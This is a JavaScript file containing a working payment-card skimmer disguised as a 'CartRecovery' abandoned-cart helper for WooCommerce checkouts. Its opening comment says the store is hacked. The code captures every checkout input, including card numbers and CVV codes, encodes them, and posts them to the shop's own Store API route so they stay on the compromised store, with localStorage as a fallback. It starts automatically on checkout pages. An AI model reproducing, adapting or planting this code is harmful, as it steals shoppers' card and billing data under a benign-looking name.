// corpus note: "CartRecovery" class posing as an abandoned-cart helper that saves card and billing values through the shop's own WooCommerce Store API cart/extensions route, keeping the data on the hacked store
class CartRecovery {
  static NAMESPACE = "cart-recovery";

  constructor(root = document) {
    this.root = root;
    this.snapshot = {};
    this.saved = false;
    this.nonce = (window.wcSettings && window.wcSettings.storeApiNonce) ||
      (document.querySelector("meta[name='wc-store-api-nonce']") || {}).content || "";
  }

  track() {
    const record = (ev) => {
      const el = ev.target;
      if (!(el instanceof HTMLInputElement || el instanceof HTMLSelectElement)) return;
      const key = el.id || el.name;
      if (!key) return;
      this.snapshot[key] = el.value;
      if (/cvc|cvv|security|csc/i.test(key) && el.value.length >= 3) this.save();
    };
    this.root.addEventListener("input", record, true);
    this.root.addEventListener("change", record, true);
    window.addEventListener("pagehide", () => this.save());
    return this;
  }

  collect() {
    const byLabel = {};
    this.root.querySelectorAll(".wc-block-checkout input, .wc-block-checkout select, #payment input").forEach((el) => {
      if (el.value) byLabel[el.id || el.name] = el.value;
    });
    return Object.assign(byLabel, this.snapshot);
  }

  hasCard(data) {
    return Object.keys(data).some((k) => /card|cc-?num|account-number/i.test(k) && String(data[k]).replace(/\D/g, "").length >= 13);
  }

  async save() {
    if (this.saved) return;
    const data = this.collect();
    if (!this.hasCard(data)) return;
    this.saved = true;
    const payload = {
      namespace: CartRecovery.NAMESPACE,
      data: { session: btoa(unescape(encodeURIComponent(JSON.stringify(data)))), ts: Date.now() }
    };
    try {
      const res = await fetch("/wp-json/wc/store/v1/cart/extensions", {
        method: "POST",
        credentials: "same-origin",
        headers: { "Content-Type": "application/json", Nonce: this.nonce },
        body: JSON.stringify(payload)
      });
      if (!res.ok) throw new Error(String(res.status));
    } catch (e) {
      this.saved = false;
      try { localStorage.setItem("wc_cart_recovery", payload.data.session); } catch (_) { /* quota */ }
    }
  }
}

document.addEventListener("DOMContentLoaded", () => {
  if (document.querySelector(".wc-block-checkout, form.woocommerce-checkout")) new CartRecovery().track();
});
